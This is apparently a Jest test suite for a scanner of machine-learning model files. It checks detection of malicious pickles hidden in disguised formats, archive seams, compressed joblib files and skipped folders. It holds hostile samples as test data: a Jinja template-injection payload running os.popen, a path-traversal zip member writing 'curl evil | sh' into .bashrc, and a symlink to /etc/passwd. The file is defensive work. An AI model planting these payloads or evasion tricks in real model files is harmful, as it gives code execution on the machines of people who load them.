/* eslint jest/expect-expect: ["warn", { "assertFunctionNames": ["expect*"] }] */
/**
 * Where layers meet: a reader hands bytes to another (disguise hand-back, archive members, directory
 * walk) and an attacker places the payload exactly at the seam.
 */
import { deflateSync } from 'node:zlib';
import {
  PickleWriter,
  buildTar,
  buildZip,
  concatBytes,
  expectBlocked,
  expectBlockedBy,
  gzip,
  npy,
  osSystemPickle,
  pytorchZipSpec,
  ruleIds,
  scanBytes,
  scanTree,
} from './__testUtils__/helpers';

const payload = () => osSystemPickle(2);
const benignPickle = () =>
  PickleWriter.create().proto(2).emptyDict().stop().bytes();

describe('disguise hand-back', () => {
  it('a PyTorch zip named model.safetensors is reported as disguised and its data.pkl still walked', async () => {
    const result = await scanBytes(
      buildZip(pytorchZipSpec(payload(), [])),
      'model.safetensors',
    );
    expectBlockedBy(result, 'MODEL-DISGUISED');
    expectBlockedBy(result, 'PICKLE-EXEC', 'os.system');
  });

  it('a gzip-wrapped pickle named model.gguf', async () => {
    const result = await scanBytes(gzip(payload()), 'model.gguf');
    expectBlockedBy(result, 'PICKLE-EXEC', 'os.system');
  });

  it('an object-dtype .npy named model.safetensors inside a zip', async () => {
    const zip = buildZip({
      entries: [
        { name: 'weights/model.safetensors', data: npy('|O', [1], payload()) },
      ],
    });
    const result = await scanBytes(zip, 'release.zip');
    expect(result.findings.some(f => f.ruleId === 'NUMPY-OBJECT-ARRAY')).toBe(
      true,
    );
    expectBlockedBy(result, 'PICKLE-EXEC', 'os.system');
  });
});

describe('other pickle-bearing members', () => {
  it('TorchScript archive with the payload in constants.pkl', async () => {
    const zip = buildZip({
      entries: [
        { name: 'model/data.pkl', data: benignPickle() },
        {
          name: 'model/code/__torch__.py',
          data: 'class Model(Module):\n  pass\n',
        },
        { name: 'model/constants.pkl', data: payload() },
        { name: 'model/version', data: '3\n' },
      ],
    });
    expectBlockedBy(
      await scanBytes(zip, 'scripted.pt'),
      'PICKLE-EXEC',
      'os.system',
    );
  });

  it('NeMo tarball with the payload in model_weights.ckpt', async () => {
    const tar = buildTar([
      { name: './model_config.yaml', data: 'name: asr\n' },
      {
        name: './model_weights.ckpt',
        data: buildZip(pytorchZipSpec(payload(), [], 'model_weights')),
      },
    ]);
    expectBlockedBy(
      await scanBytes(tar, 'asr.nemo'),
      'PICKLE-EXEC',
      'os.system',
    );
  });

  it('a .mar (TorchServe) zip with a serialized handler pickle', async () => {
    const zip = buildZip({
      entries: [
        { name: 'MAR-INF/MANIFEST.json', data: '{}' },
        { name: 'model.pt', data: payload() },
      ],
    });
    expectBlockedBy(
      await scanBytes(zip, 'model.mar'),
      'PICKLE-EXEC',
      'os.system',
    );
  });
});

describe('PyTorch layouts', () => {
  it('two top folders: benign a/data.pkl, payload b/data.pkl', async () => {
    const zip = buildZip({
      entries: [
        { name: 'a/data.pkl', data: benignPickle() },
        { name: 'b/data.pkl', data: payload() },
        { name: 'a/version', data: '3\n' },
      ],
    });
    expectBlockedBy(
      await scanBytes(zip, 'model.pt'),
      'PICKLE-EXEC',
      'os.system',
    );
  });

  it('legacy format with the payload in the 5th pickle (the storage-keys list torch.load unpickles)', async () => {
    const legacyMagic = PickleWriter.create()
      .proto(2)
      .raw(0x8a, 10, 0x6c, 0xfc, 0x9c, 0x46, 0xf9, 0x20, 0x6a, 0xa8, 0x50, 0x19)
      .stop()
      .bytes();
    const file = concatBytes(
      legacyMagic,
      PickleWriter.create().proto(2).int(1001).stop().bytes(),
      PickleWriter.create().proto(2).emptyDict().stop().bytes(),
      PickleWriter.create().proto(2).emptyDict().stop().bytes(),
      payload(),
      new Uint8Array(64).fill(0x52),
    );
    expectBlockedBy(
      await scanBytes(file, 'pytorch_model.bin'),
      'PICKLE-EXEC',
      'os.system',
    );
  });
});

describe('chat templates outside GGUF', () => {
  const ssti =
    "{{ self.__init__.__globals__.__builtins__.__import__('os').popen('id').read() }}";

  it('tokenizer_config.json chat_template', async () => {
    expectBlockedBy(
      await scanTree({
        'tokenizer_config.json': JSON.stringify({ chat_template: ssti }),
      }),
      'MODEL-CHAT-TEMPLATE-INJECTION',
    );
  });

  it('tokenizer_config.json chat_template as a list of named templates', async () => {
    const result = await scanTree({
      'tokenizer_config.json': JSON.stringify({
        chat_template: [
          { name: 'default', template: '{{ m }}' },
          { name: 'tool_use', template: ssti },
        ],
      }),
    });
    expectBlockedBy(result, 'MODEL-CHAT-TEMPLATE-INJECTION');
  });

  it('chat_template.jinja beside the weights', async () => {
    expectBlockedBy(
      await scanTree({ 'chat_template.jinja': ssti }),
      'MODEL-CHAT-TEMPLATE-INJECTION',
    );
  });
});

describe('zlib-compressed joblib under a neutral name', () => {
  // Was a gap, now covered (formats/joblib/joblibReader.ts sniff): without a joblib-like name only zlib headers whose
  // second byte is >= 0x80 are claimed. joblib.dump(compress=1) writes 78 01 and compress=3 (the
  // usual choice) 78 5e; joblib.load detects zlib by the 0x78 byte alone, whatever the file is called.
  it.each([
    [1, 0x01, 'model.bin'],
    [3, 0x5e, 'model.bin'],
    [3, 0x5e, 'model'],
  ])(
    'zlib level %i (second header byte %i) joblib named %s is walked',
    async (level, secondByte, name) => {
      const bytes = new Uint8Array(deflateSync(payload(), { level }));
      expect(bytes[1]).toBe(secondByte);
      expectBlockedBy(await scanBytes(bytes, name), 'PICKLE-EXEC', 'os.system');
    },
  );

  it('zlib level 9 joblib named model.bin is walked', async () => {
    expectBlockedBy(
      await scanBytes(
        new Uint8Array(deflateSync(payload(), { level: 9 })),
        'model.bin',
      ),
      'PICKLE-EXEC',
      'os.system',
    );
  });
});

describe('archive structure seams', () => {
  it('zip without a central directory (truncated download): members found by a local walk', async () => {
    const zip = buildZip({
      entries: [{ name: 'archive/data.pkl', data: payload() }],
      omitDirectory: true,
    });
    expectBlockedBy(
      await scanBytes(zip, 'model.pt'),
      'PICKLE-EXEC',
      'os.system',
    );
  });

  it('local entry absent from the central directory (streaming unzippers still extract it)', async () => {
    // The hidden member's local header and data sit before the first listed member, unreferenced.
    const hiddenLocal = buildZip({
      entries: [{ name: 'hidden/data.pkl', data: payload() }],
      omitDirectory: true,
    });
    const visible = buildZip({
      entries: [
        {
          name: 'archive/data.pkl',
          data: benignPickle(),
          gapBefore: hiddenLocal,
        },
      ],
    });
    expectBlocked(await scanBytes(visible, 'model.pt'));
  });

  it('local header understating the size (central directory is right)', async () => {
    const zip = buildZip({
      entries: [
        { name: 'archive/data.pkl', data: payload(), localUncompressedSize: 3 },
      ],
    });
    expectBlockedBy(
      await scanBytes(zip, 'model.pt'),
      'PICKLE-EXEC',
      'os.system',
    );
  });

  it('zip member path traversal', async () => {
    const zip = buildZip({
      entries: [{ name: '../../.bashrc', data: 'curl evil | sh\n' }],
    });
    expectBlockedBy(
      await scanBytes(zip, 'model.zip'),
      'ARCHIVE-PATH-TRAVERSAL',
    );
  });

  it('tar symlink member pointing outside the archive', async () => {
    const tar = buildTar([
      { name: 'data.pkl', type: '2', linkName: '/etc/passwd' },
    ]);
    expectBlockedBy(await scanBytes(tar, 'model.tar'), 'ARCHIVE-LINK');
  });

  it('tar with a corrupted header checksum before the payload member', async () => {
    const tar = buildTar([
      { name: 'junk', data: 'x', badChecksum: true },
      { name: 'data.pkl', data: payload() },
    ]);
    expectBlocked(await scanBytes(tar, 'model.tar'));
  });
});

describe('directory walk', () => {
  // Was a gap (engine/Scanner.ts SKIPPED_DIRS): folders named node_modules/.git/.hg/.svn/__pycache__ were
  // skipped without a trace. An attacker who controls the repository layout puts the checkpoint
  // there (`models/node_modules/weights.pt`) and the scan is clean. Expected at least SCAN-LIMIT or a
  // scan of model-extension files inside them.
  it.each(['node_modules', '.git', '__pycache__'])(
    'a payload under a %s folder is not silently skipped',
    async folder => {
      const result = await scanTree({
        [`models/${folder}/weights.pt`]: payload(),
        'models/README.md': 'weights',
      });
      expectBlocked(result);
    },
  );

  it('a payload in a dot-folder that is not on the skip list is scanned', async () => {
    expectBlockedBy(
      await scanTree({ '.cache/hub/weights.bin': payload() }),
      'PICKLE-EXEC',
      'os.system',
    );
  });

  it('an extension-less payload deep in the tree is scanned', async () => {
    expectBlockedBy(
      await scanTree({ 'a/b/c/d/e/f/blob': payload() }),
      'PICKLE-EXEC',
      'os.system',
    );
  });

  it('findings carry the member chain for a nested payload', async () => {
    const inner = buildZip(pytorchZipSpec(payload(), [], 'm'));
    const result = await scanTree({
      'release/bundle.tar.gz': gzip(
        buildTar([{ name: 'ckpt/model.pt', data: inner }]),
      ),
    });
    const hit = result.findings.find(f => f.ruleId === 'PICKLE-EXEC');
    expect(hit?.location.path).toBe('release/bundle.tar.gz');
    expect(hit?.location.entry?.join('!')).toMatch(
      /ckpt\/model\.pt!m\/data\.pkl$/,
    );
    expect(ruleIds(result)).toContain('PICKLE-EXEC');
  });
});
